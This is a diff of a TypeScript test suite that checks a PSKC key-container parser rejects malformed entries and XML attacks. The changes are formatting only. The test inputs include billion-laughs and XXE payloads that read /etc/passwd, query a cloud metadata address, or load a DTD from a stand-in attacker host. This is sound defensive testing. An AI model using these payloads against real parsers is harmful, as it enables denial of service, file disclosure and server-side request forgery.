@@ -12,8 +12,14 @@ const errorsOf = (xml: string, options = {}) => {
 
 describe('parsePskc refuses DOCTYPE and entity attacks before parsing', () => {
   const cases: Array<[string, string]> = [
-    ['billion laughs', `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><KeyContainer Version="1.0"><KeyPackage><DeviceInfo><SerialNo>&lol3;</SerialNo></DeviceInfo></KeyPackage></KeyContainer>`],
-    ['XXE file', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><KeyContainer Version="1.0"><KeyPackage><DeviceInfo><SerialNo>&xxe;</SerialNo></DeviceInfo></KeyPackage></KeyContainer>`],
+    [
+      'billion laughs',
+      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><KeyContainer Version="1.0"><KeyPackage><DeviceInfo><SerialNo>&lol3;</SerialNo></DeviceInfo></KeyPackage></KeyContainer>`,
+    ],
+    [
+      'XXE file',
+      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><KeyContainer Version="1.0"><KeyPackage><DeviceInfo><SerialNo>&xxe;</SerialNo></DeviceInfo></KeyPackage></KeyContainer>`,
+    ],
     ['XXE http', `<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><KeyContainer Version="1.0">&xxe;</KeyContainer>`],
     ['parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><KeyContainer Version="1.0"/>`],
     ['external DTD only', `<!DOCTYPE KeyContainer SYSTEM "http://attacker.example/pskc.dtd"><KeyContainer Version="1.0"/>`],
@@ -108,7 +114,11 @@ describe('parsePskc refuses bad entries, naming each, and returns nothing', () =
     ['no secret', { rawData: '<Counter><PlainValue>0</PlainValue></Counter>' }, 'has no secret (<Data><Secret>)'],
     ['an empty secret', { rawData: '<Secret></Secret>' }, 'has no secret (<PlainValue> or <EncryptedValue>)'],
     ['a secret not base64', { rawData: '<Secret><PlainValue>not*base64</PlainValue></Secret>' }, "the secret's <PlainValue> is not base64"],
-    ['two secrets', { rawData: `<Secret><PlainValue>${testSecret(1).toString('base64')}</PlainValue></Secret><Secret><PlainValue>${testSecret(2).toString('base64')}</PlainValue></Secret>` }, '<Secret> appears 2 times'],
+    [
+      'two secrets',
+      { rawData: `<Secret><PlainValue>${testSecret(1).toString('base64')}</PlainValue></Secret><Secret><PlainValue>${testSecret(2).toString('base64')}</PlainValue></Secret>` },
+      '<Secret> appears 2 times',
+    ],
     ['a short secret', { secret: Buffer.alloc(10, 1) }, 'the secret is 80 bits; at least 128 are required'],
     ['a long secret', { secret: Buffer.alloc(65, 1) }, 'at most 512 are accepted'],
     ['7 digits', { digits: '7' }, '<ResponseFormat> Length "7" is not supported (6 or 8 digits)'],
@@ -172,7 +182,12 @@ describe('parsePskc refuses bad entries, naming each, and returns nothing', () =
 
   it('never quotes a secret in its errors', () => {
     const secret = testSecret(9);
-    const errors = errorsOf(buildPskc([{ serial: 'S', secret, digits: '5' }, { serial: 'S', secret }]));
+    const errors = errorsOf(
+      buildPskc([
+        { serial: 'S', secret, digits: '5' },
+        { serial: 'S', secret },
+      ]),
+    );
     const text = errors.join('\n');
     for (const form of [secret.toString('base64'), secret.toString('hex'), secret.toString('latin1')]) expect(text).not.toContain(form);
   });
